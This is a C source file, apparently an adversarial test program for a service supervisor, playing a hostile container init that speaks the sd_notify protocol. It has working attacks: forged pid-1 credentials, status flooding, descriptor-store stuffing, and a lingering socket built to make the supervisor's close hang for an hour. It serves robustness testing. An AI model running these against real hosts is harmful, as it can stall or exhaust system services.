/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * news.c: what a hostile init tells its supervisor (sd_notify(3) protocol). Sent with the credentials of pid 1, which the root of a
 * pid namespace may claim to have.
 *
 *   news say LINE...          one datagram
 *   news flood SECONDS        statuses, as fast as it goes; tells how many were taken
 *   news store NUMBER         descriptors for the store of the unit
 *   news linger               a socket whose close takes an hour
 */
#include "attack.h"
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static int out = -1;

static void connect_out(void) {
        struct sockaddr_un address = { .sun_family = AF_UNIX, .sun_path = "/run/host/notify" };

        out = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        if (connect(out, (struct sockaddr *) &address, sizeof(address)) < 0) {
                broken("/run/host/notify");
        }
}

static int tell(const char *text, int fd) {
        const struct ucred init = { .pid = 1 };
        struct iovec iov = { .iov_base = (char *) text, .iov_len = strlen(text) };
        char control[CMSG_SPACE(sizeof(init)) + CMSG_SPACE(sizeof(fd))] = "";
        struct msghdr header = {
                .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof(control)
        };
        struct cmsghdr *c = CMSG_FIRSTHDR(&header);

        *c = (struct cmsghdr){ .cmsg_level = SOL_SOCKET,
                               .cmsg_type = SCM_CREDENTIALS,
                               .cmsg_len = CMSG_LEN(sizeof(init)) };
        memcpy(CMSG_DATA(c), &init, sizeof(init));
        if (fd >= 0) {
                c = CMSG_NXTHDR(&header, c);
                *c = (struct cmsghdr){ .cmsg_level = SOL_SOCKET,
                                       .cmsg_type = SCM_RIGHTS,
                                       .cmsg_len = CMSG_LEN(sizeof(fd)) };
                memcpy(CMSG_DATA(c), &fd, sizeof(fd));
        } else {
                header.msg_controllen = CMSG_SPACE(sizeof(init));
        }
        return sendmsg(out, &header, MSG_NOSIGNAL) < 0 ? -errno : 0;
}

static int say_lines(int n, char **lines) {
        char text[4096] = "";

        for (int i = 0; i < n; i++) {
                strncat(text, lines[i], sizeof(text) - strlen(text) - 2);
                strcat(text, "\n");
        }
        return tell(text, -1) < 0;
}

static int flood(int seconds) {
        const time_t end = time(NULL) + seconds;
        unsigned n = 0;
        char text[64];

        fcntl(out, F_SETFL, O_NONBLOCK);
        while (time(NULL) < end) {
                snprintf(text, sizeof(text), "STATUS=flood %u", n);
                if (tell(text, -1) == 0) {
                        n++;
                } else {
                        usleep(1000);
                }
        }
        say("%u statuses taken", n);
        return n > 0 ? 0 : ATTACK_BROKEN;
}

/* Those after the first are not taken where it was refused. */
static int store(int number) {
        int sent = 0, r = 0;

        for (int i = 0; i < number && r == 0; i++) {
                int fd = open("/dev/null", O_RDONLY | O_CLOEXEC);
                char text[64];

                snprintf(text, sizeof(text), "FDSTORE=1\nFDNAME=attack%d", i);
                r = tell(text, fd);
                sent += r == 0;
                close(fd);
        }
        say("%d descriptors sent", sent);
        return sent > 0 ? 0 : ATTACK_BROKEN;
}

/* With unsent data, since its peer reads nothing, and an hour to wait for that. The peer stays open. */
static int lingering_socket(void) {
        struct sockaddr_in address = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
        const struct linger hour = { .l_onoff = 1, .l_linger = 3600 };
        int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0),
            fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        socklen_t size = sizeof(address);
        static char data[1 << 16];

        if (bind(listener, (struct sockaddr *) &address, size) < 0 || listen(listener, 1) < 0 ||
            getsockname(listener, (struct sockaddr *) &address, &size) < 0 ||
            connect(fd, (struct sockaddr *) &address, size) < 0 || accept(listener, NULL, NULL) < 0 ||
            setsockopt(fd, SOL_SOCKET, SO_LINGER, &hour, sizeof(hour)) < 0) {
                broken("socket");
        }
        while (send(fd, data, sizeof(data), MSG_NOSIGNAL | MSG_DONTWAIT) > 0) {
        }
        return fd;
}

/*
 * The last close has to be the reader's, so it comes behind a queue that is read slowly, and by then we have ended, which is a close
 * that does not wait. A process in the background keeps the peer.
 */
static int linger(void) {
        int fd = lingering_socket();

        switch (fork()) {
        case -1:
                broken("fork");
        case 0:
                setsid();
                for (int n = 0; n < 3; n++) {
                        close(n);
                }
                close(fd);
                pause();
                _exit(0);
        default:
                for (int i = 0; i < 40; i++) {
                        if (tell("STATUS=wait", -1) < 0) {
                                return ATTACK_BROKEN;
                        }
                }
                return tell("STATUS=and a socket", fd) < 0 ? ATTACK_BROKEN : 0;
        }
}

int main(int argc, char **argv) {
        connect_out();
        if (argc > 2 && strcmp(argv[1], "say") == 0) {
                return say_lines(argc - 2, argv + 2);
        }
        if (argc == 3 && strcmp(argv[1], "flood") == 0) {
                return flood(atoi(argv[2]));
        }
        if (argc == 3 && strcmp(argv[1], "store") == 0) {
                return store(atoi(argv[2]));
        }
        if (argc == 2 && strcmp(argv[1], "linger") == 0) {
                return linger();
        }
        fprintf(stderr, "usage: news say LINE... | flood SECONDS | store NUMBER | linger\n");
        return ATTACK_BROKEN;
}
